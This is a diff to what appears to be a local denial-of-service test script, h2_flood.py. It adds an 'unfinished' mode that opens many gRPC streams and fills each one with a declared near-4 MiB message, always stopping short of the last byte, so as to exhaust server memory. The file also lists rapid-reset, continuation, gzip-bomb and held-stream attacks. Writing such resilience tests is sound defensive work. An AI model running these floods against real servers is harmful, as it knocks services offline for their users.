@@ -11,6 +11,11 @@ same machine). Prints one JSON line of what it sent and how the server answered.
                                             (or as one message of $FLOOD_METHOD)
   h2_flood.py held_streams PORT SECONDS     2,100 ExportItems streams with a zero window, settings
                                             never acknowledged, held for SECONDS
+  h2_flood.py unfinished PORT SECONDS       $FLOOD_STREAMS (default 1,000) GetItem streams on one
+                                            connection, settings never acknowledged, each declaring
+                                            a message of $FLOOD_MESSAGE_BYTES (default just under
+                                            4 MiB) and sent all of it but its last byte, within the
+                                            windows granted; held for SECONDS
 """
 import json
 import os
@@ -265,8 +270,50 @@ def held_streams(port, seconds):
     return result
 
 
+def unfinished(port, seconds):
+    streams = int(os.environ.get("FLOOD_STREAMS", "1000"))
+    # By default under gRPC's default limit, so that it waits for the rest.
+    declared = int(os.environ.get("FLOOD_MESSAGE_BYTES", (4 << 20) - 64))
+    conn = Connection(port)
+    encoder = hpack.Encoder()
+    end = time.monotonic() + seconds
+    left = {}
+    for stream in range(1, 2 * streams, 2):
+        conn.send(frame(HEADERS, END_HEADERS, stream, request_headers(encoder)))
+        conn.send_data(stream, b"\x00" + struct.pack(">I", declared), False, end)
+        left[stream] = declared
+        conn.drain()
+    # Round robin over the streams, a frame each in turn, as much as each window allows, never
+    # the last byte: they all fill together (filled one after another, most were cancelled).
+    sent = 0
+    zeros = b"\x00" * 16384
+    while time.monotonic() < end and not conn.closed:
+        conn.drain()
+        burst, size_of_burst = [], 0
+        for stream, remaining in left.items():
+            size = min(16384, conn.connection_window - size_of_burst, conn.stream_windows[stream],
+                       remaining - 1)
+            if size > 0:
+                burst.append(frame(DATA, 0, stream, zeros[:size]))
+                conn.stream_windows[stream] -= size
+                left[stream] -= size
+                size_of_burst += size
+        if not burst:
+            time.sleep(0.01)  # every window used up: wait for more, or for the end
+            continue
+        conn.connection_window -= size_of_burst
+        if not conn.send(b"".join(burst)):
+            break
+        sent += size_of_burst
+    result = {"attack": "unfinished", "streams": streams, "sent_mib": round(sent / (1 << 20), 1),
+              "resets": conn.resets, "closed_by_server": conn.closed or conn.goaway}
+    conn.close()
+    return result
+
+
 if __name__ == "__main__":
     attack, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
     attacks = {"rapid_reset": rapid_reset, "continuation": continuation, "big_message": big_message,
-               "gzip_bomb": gzip_bomb, "held_streams": held_streams}
+               "gzip_bomb": gzip_bomb, "held_streams": held_streams,
+               "unfinished": unfinished}
     print(json.dumps(attacks[attack](port, seconds)), flush=True)
